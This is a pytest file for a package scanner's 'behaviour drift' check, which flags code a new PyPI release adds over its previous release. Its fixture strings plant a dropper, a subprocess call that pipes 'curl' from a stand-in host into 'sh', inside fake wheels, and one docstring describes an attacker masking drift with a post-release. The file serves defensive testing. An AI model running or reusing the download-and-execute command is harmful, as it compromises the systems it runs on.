"""Behaviour drift (``--pypi``): what an installed release does that its previous release did not.

Every release is a wheel built here and served by the loopback PyPI; the installed copy
is that wheel installed as pip does.  The planted code would write a marker file if
anything imported or ran it.
"""

from __future__ import annotations

import io
import json
import os
import socket
import subprocess
import sys
import zipfile
from collections.abc import Sequence
from pathlib import Path
from typing import Any

import pytest
from fakepypi import FakePyPI, project, wheel_file
from fixtures.build import zip_bytes
from test_upstream import FAST, NOW, build_wheel, install

from wellcheck.artifact.memory import MemoryTree
from wellcheck.checks import Check, CheckContext, CheckResult
from wellcheck.http import HttpClient
from wellcheck.inventory import collect
from wellcheck.models import ArtifactInfo, Component, Finding, Severity
from wellcheck.pypi.json_api import PyPIJsonSource
from wellcheck.pypi.store import PyPIStore
from wellcheck.scan.target import scan_artifacts
from wellcheck.signals.behaviour import BehaviourCheck
from wellcheck.signals.behaviour_drift import BehaviourDriftCheck, SharedBehaviour

sys.path.append(str(Path(__file__).resolve().parents[1] / "artifact"))  # zipkit
from zipkit import RawMember, raw_zip

NAME = "colorlib"
CLEAN = b"def paint(text):\n    return text\n"
DROPPER = 'import subprocess\nsubprocess.Popen("curl -s https://cdn.example-updates.net/u.sh | sh", shell=True)\nopen({marker!r}, "w").write("ran")\n'  # noqa: E501
IN_A_FUNCTION = 'import subprocess\n\n\ndef update():\n    subprocess.Popen("curl -s https://cdn.example-updates.net/u.sh | sh", shell=True)\n    open({marker!r}, "w").write("ran")\n'  # noqa: E501
EARLY, LATER, LATEST = "2024-01-10T00:00:00Z", "2024-03-01T00:00:00Z", "2024-05-29T00:00:00Z"


def files(extra: str | None, marker: Path) -> dict[str, bytes]:
    code = {f"{NAME}/__init__.py": CLEAN}
    if extra is not None:
        code[f"{NAME}/_update.py"] = extra.format(marker=str(marker)).encode()
    return code


def publish(
    server: FakePyPI, version: str, code: dict[str, bytes], uploaded: str, **kw: Any
) -> bytes:
    """Put ``version`` on the loopback PyPI as one wheel; its bytes."""
    filename, data = build_wheel(NAME, version, code)
    entry = {**wheel_file(server.serve(filename, data), data, uploaded), **kw}
    releases = server.projects.get(NAME, {}).get("releases", {})
    server.projects[NAME] = project(NAME, {**releases, version: [entry]}, ["owner"])
    return data


def check_run(
    server: FakePyPI, tmp_path: Path, wheel: bytes, *, offline: bool = False
) -> tuple[CheckResult, BehaviourDriftCheck]:
    tree = MemoryTree(install(wheel))
    components = collect(tree, artifact_python="3.12")
    context = CheckContext(ArtifactInfo(path="layer.zip", kind="lambda-layer"), trees=(tree,))
    source = PyPIJsonSource(
        PyPIStore(tmp_path / "pypi.sqlite3"),
        base_url=server.url,
        ttl=1e12 if offline else 0.0,
        offline=offline,
        client=HttpClient(FAST, sleep=lambda s: None),
        clock=lambda: NOW,
    )
    check = BehaviourDriftCheck(
        source,
        analyser=BehaviourCheck(workers=1),
        cache_dir=tmp_path / "cache",
        client=HttpClient(FAST, sleep=lambda s: None),
    )
    try:
        return check.run(components, context), check
    finally:
        source.close()


def drift(result: CheckResult) -> list[Finding]:
    return [f for f in result.findings if f.rule == "WC-CODE-DRIFT"]


def scan(
    artifact: Path, cache: Path, pypi_url: str, *extra: str, **environ: str
) -> tuple[int, dict[str, Any], str]:
    env = dict(os.environ, WELLCHECK_CACHE_DIR=str(cache), WELLCHECK_PYPI_URL=pypi_url)
    env.update(WELLCHECK_PYPI_TTL="0", **environ)
    args = [str(artifact), "--pypi", "--no-advisories", "-f", "json", "-j", "1", *extra]
    proc = subprocess.run(
        [sys.executable, "-m", "wellcheck", "scan", *args],
        capture_output=True,
        text=True,
        env=env,
        check=False,
    )
    [result] = json.loads(proc.stdout)["artifacts"]
    return proc.returncode, result, proc.stderr


def layer_zip(tmp_path: Path, wheel: bytes) -> Path:
    path = tmp_path / "layer.zip"
    path.write_bytes(zip_bytes(install(wheel)))
    return path


def test_a_compromised_patch_release_is_high_drift_and_a_suspect(
    fake_pypi: FakePyPI, tmp_path: Path
) -> None:
    marker = tmp_path / "ran"
    publish(fake_pypi, "1.4.1", files(None, marker), EARLY)
    wheel = publish(fake_pypi, "1.4.2", files(DROPPER, marker), LATEST)

    status, result, stderr = scan(layer_zip(tmp_path, wheel), tmp_path / "cache", fake_pypi.url)

    assert status == 1, stderr
    [finding] = [f for f in result["findings"] if f["rule"] == "WC-CODE-DRIFT"]
    assert (finding["package"], finding["version"], finding["severity"]) == (NAME, "1.4.2", "high")
    assert "WC-CODE-IMPORT-SPAWN at import time" in finding["title"]
    assert "WC-CODE-DOWNLOAD-EXEC at import time" in finding["title"]
    assert "1.4.2 (installed) against 1.4.1 (colorlib-1.4.1-py3-none-any.whl" in finding["evidence"]
    assert finding["path"].endswith(f"{NAME}/_update.py") and finding["line"] == 2
    [verdict] = [f for f in result["findings"] if f["rule"] == "WC-POISON-SUSPECT"]
    assert verdict["package"] == NAME
    assert not any(n["source"] == "drift" for n in result["not_checked"])
    assert not marker.exists()  # parsed, never imported or run


def test_a_capability_both_releases_have_is_no_drift(fake_pypi: FakePyPI, tmp_path: Path) -> None:
    marker = tmp_path / "ran"
    publish(fake_pypi, "1.4.1", files(DROPPER, marker), EARLY)
    wheel = publish(fake_pypi, "1.4.2", files(DROPPER, marker), LATEST)

    result, check = check_run(fake_pypi, tmp_path, wheel)

    assert check.compared == 1
    assert drift(result) == [] and result.skipped == () and result.not_applicable == ()
    assert not marker.exists()


@pytest.mark.parametrize(
    ("previous", "installed", "code", "expected"),
    [
        ("1.4.1", "1.4.2", DROPPER, Severity.HIGH),  # patch release: the compromised pattern
        ("1.3.9", "1.4.0", DROPPER, Severity.HIGH),  # minor release
        ("1.9.9", "2.0.0", DROPPER, Severity.MEDIUM),  # a major release may change a lot
        ("1.4.1", "1.4.2", IN_A_FUNCTION, Severity.LOW),  # nothing runs it by itself
    ],
)
def test_drift_severity_follows_the_context_and_the_release(
    fake_pypi: FakePyPI,
    tmp_path: Path,
    previous: str,
    installed: str,
    code: str,
    expected: Severity,
) -> None:
    marker = tmp_path / "ran"
    publish(fake_pypi, previous, files(None, marker), EARLY)
    wheel = publish(fake_pypi, installed, files(code, marker), LATEST)

    result, _ = check_run(fake_pypi, tmp_path, wheel)

    [finding] = drift(result)
    assert finding.severity == expected
    assert f"against {previous} " in finding.evidence


def test_no_previous_release_is_not_applicable_not_an_error(
    fake_pypi: FakePyPI, tmp_path: Path
) -> None:
    marker = tmp_path / "ran"
    wheel = publish(fake_pypi, "1.0.0", files(DROPPER, marker), LATEST)

    result, check = check_run(fake_pypi, tmp_path, wheel)

    assert drift(result) == [] and result.skipped == () and check.compared == 0
    [entry] = result.not_applicable
    assert (entry.source, entry.package) == ("drift", NAME)
    assert "no previous release to compare" in entry.reason
    assert not any(path.startswith("/packages/") for path in fake_pypi.requests)


def test_a_yanked_or_later_uploaded_baseline_is_passed_over(
    fake_pypi: FakePyPI, tmp_path: Path
) -> None:
    """The attacker uploads 1.4.1.post1 with the payload next to 1.4.2 (to mask the drift);
    1.4.1 was yanked; the comparison is with 1.4.0, the last release users had."""
    marker = tmp_path / "ran"
    publish(fake_pypi, "1.4.0", files(None, marker), EARLY)
    publish(fake_pypi, "1.4.1", files(DROPPER, marker), LATER, yanked=True)
    wheel = publish(fake_pypi, "1.4.2", files(DROPPER, marker), LATEST)
    publish(fake_pypi, "1.4.1.post1", files(DROPPER, marker), "2024-05-30T00:00:00Z")

    result, _ = check_run(fake_pypi, tmp_path, wheel)

    [finding] = drift(result)
    assert finding.severity == Severity.HIGH
    assert "against 1.4.0 (colorlib-1.4.0-py3-none-any.whl" in finding.evidence


def test_only_distributions_with_behaviour_findings_ask_pypi(
    fake_pypi: FakePyPI, tmp_path: Path
) -> None:
    marker = tmp_path / "ran"
    publish(fake_pypi, "1.4.1", files(None, marker), EARLY)
    wheel = publish(fake_pypi, "1.4.2", files(None, marker), LATEST)

    result, check = check_run(fake_pypi, tmp_path, wheel)

    assert result == CheckResult() and check.compared == 0
    assert fake_pypi.requests == []


def test_pypi_down_makes_the_scan_incomplete(tmp_path: Path) -> None:
    marker = tmp_path / "ran"
    _, wheel = build_wheel(NAME, "1.4.2", files(DROPPER, marker))
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        dead = f"http://127.0.0.1:{s.getsockname()[1]}"

    artifact = layer_zip(tmp_path, wheel)
    # one second for the attempts on the dead port (a round of retries takes 3.5 s)
    status, result, stderr = scan(
        artifact, tmp_path / "cache", dead, "--fail-on", "none", WELLCHECK_NET_DEADLINE="1"
    )

    assert status == 3, stderr
    assert (NAME, "drift") in {(n["package"], n["source"]) for n in result["not_checked"]}
    assert not any(f["rule"] == "WC-CODE-DRIFT" for f in result["findings"])


def test_offline_with_an_empty_cache_is_not_checked(fake_pypi: FakePyPI, tmp_path: Path) -> None:
    marker = tmp_path / "ran"
    publish(fake_pypi, "1.4.1", files(None, marker), EARLY)
    wheel = publish(fake_pypi, "1.4.2", files(DROPPER, marker), LATEST)

    status, result, stderr = scan(
        layer_zip(tmp_path, wheel),
        tmp_path / "cache",
        fake_pypi.url,
        "--offline",
        "--fail-on",
        "none",
    )

    assert status == 3, stderr
    [entry] = [n for n in result["not_checked"] if n["source"] == "drift"]
    assert entry["package"] == NAME and "offline" in entry["reason"]
    assert fake_pypi.requests == []


def test_offline_compares_with_what_an_online_scan_cached(
    fake_pypi: FakePyPI, tmp_path: Path
) -> None:
    marker = tmp_path / "ran"
    publish(fake_pypi, "1.4.1", files(None, marker), EARLY)
    wheel = publish(fake_pypi, "1.4.2", files(DROPPER, marker), LATEST)
    online, _ = check_run(fake_pypi, tmp_path, wheel)  # fills the PyPI store and wheel cache
    asked = len(fake_pypi.requests)

    offline, _ = check_run(fake_pypi, tmp_path, wheel, offline=True)

    assert (
        [f.severity for f in drift(offline)]
        == [Severity.HIGH]
        == [f.severity for f in drift(online)]
    )
    assert offline.skipped == () and len(fake_pypi.requests) == asked


class Counting(Check):
    """A check that counts the artifacts it was run on (and runs the real one)."""

    def __init__(self, inner: Check) -> None:
        self.inner = inner
        self.name = inner.name
        self.artifacts: list[str] = []

    def run(self, components: Sequence[Component], context: CheckContext) -> CheckResult:
        self.artifacts.append(context.artifact.path)
        return self.inner.run(components, context)


def test_the_installed_code_is_analysed_once_per_scan(fake_pypi: FakePyPI, tmp_path: Path) -> None:
    """With the behaviour check on, drift reads its result: only the previous wheel is
    analysed again."""
    marker = tmp_path / "ran"
    publish(fake_pypi, "1.4.1", files(None, marker), EARLY)
    artifact = layer_zip(tmp_path, publish(fake_pypi, "1.4.2", files(DROPPER, marker), LATEST))
    scanned, again = Counting(BehaviourCheck(workers=1)), Counting(BehaviourCheck(workers=1))
    shared = SharedBehaviour(scanned)
    source = PyPIJsonSource(
        PyPIStore(tmp_path / "pypi.sqlite3"), base_url=fake_pypi.url, ttl=0.0, clock=lambda: NOW
    )
    check = BehaviourDriftCheck(source, analyser=again, shared=shared, cache_dir=tmp_path / "c")
    try:
        outcome = scan_artifacts([str(artifact)], [shared, check])
    finally:
        source.close()

    [result] = outcome.results
    assert [f.severity for f in result.findings if f.rule == "WC-CODE-DRIFT"] == [Severity.HIGH]
    assert scanned.artifacts == [str(artifact)]
    assert again.artifacts == ["colorlib-1.4.1-py3-none-any.whl (PyPI)"]


def test_a_previous_wheel_that_is_not_the_one_pypi_describes_is_not_checked(
    fake_pypi: FakePyPI, tmp_path: Path
) -> None:
    marker = tmp_path / "ran"
    publish(fake_pypi, "1.4.1", files(None, marker), EARLY, digests={"sha256": "f" * 64})
    wheel = publish(fake_pypi, "1.4.2", files(DROPPER, marker), LATEST)

    result, check = check_run(fake_pypi, tmp_path, wheel)

    assert drift(result) == [] and check.compared == 0
    [entry] = result.skipped
    assert (entry.source, entry.package) == ("drift", NAME)
    assert "NOT the file PyPI describes" in entry.reason


def test_a_previous_wheel_not_analysed_in_full_is_not_checked(
    fake_pypi: FakePyPI, tmp_path: Path
) -> None:
    """A member of the previous wheel the reader cannot decode (Deflate64, which CPython's
    zipfile cannot read either) could hold what the new release seems to add: unknown."""
    marker = tmp_path / "ran"
    filename, clean = build_wheel(NAME, "1.4.1", files(None, marker))
    with zipfile.ZipFile(io.BytesIO(clean)) as zf:
        members = [RawMember(n, zf.read(n)) for n in zf.namelist()]
    members.append(RawMember(f"{NAME}/_update.py", CLEAN, method=9))  # Deflate64
    data = raw_zip(members)
    old = wheel_file(fake_pypi.serve(filename, data), data, EARLY)
    wheel = publish(fake_pypi, "1.4.2", files(DROPPER, marker), LATEST)
    fake_pypi.projects[NAME]["releases"]["1.4.1"] = [old]

    result, _ = check_run(fake_pypi, tmp_path, wheel)

    assert drift(result) == []
    [entry] = result.skipped
    assert entry.package == NAME and "could not be analysed in full" in entry.reason
    assert f"{NAME}/_update.py" in entry.reason


def test_no_signals_means_no_behaviour_analysis_and_so_no_drift(
    fake_pypi: FakePyPI, tmp_path: Path
) -> None:
    marker = tmp_path / "ran"
    publish(fake_pypi, "1.4.1", files(None, marker), EARLY)
    wheel = publish(fake_pypi, "1.4.2", files(DROPPER, marker), LATEST)

    status, result, stderr = scan(
        layer_zip(tmp_path, wheel), tmp_path / "cache", fake_pypi.url, "--no-signals"
    )

    assert status == 0, stderr  # what PyPI says about colorlib is all that was asked
    assert not any(f["rule"].startswith("WC-CODE-") for f in result["findings"])
    assert not any(path.startswith("/packages/") for path in fake_pypi.requests)


def test_a_file_name_that_spells_a_context_does_not_lower_the_drift(
    fake_pypi: FakePyPI, tmp_path: Path
) -> None:
    """The context is read where the behaviour check writes it, right after the file and
    line: a payload file named to look like "inside a function" is still import time."""
    marker = tmp_path / "ran"
    publish(fake_pypi, "1.4.1", files(None, marker), EARLY)
    spoof = {
        f"{NAME}/__init__.py": CLEAN,
        f"{NAME}/a.py:1 (inside a function): b.py": DROPPER.format(marker=str(marker)).encode(),
    }
    wheel = publish(fake_pypi, "1.4.2", spoof, LATEST)

    result, _ = check_run(fake_pypi, tmp_path, wheel)

    [finding] = drift(result)
    assert finding.severity == Severity.HIGH and "at import time" in finding.title
    assert "inside a function" not in finding.title
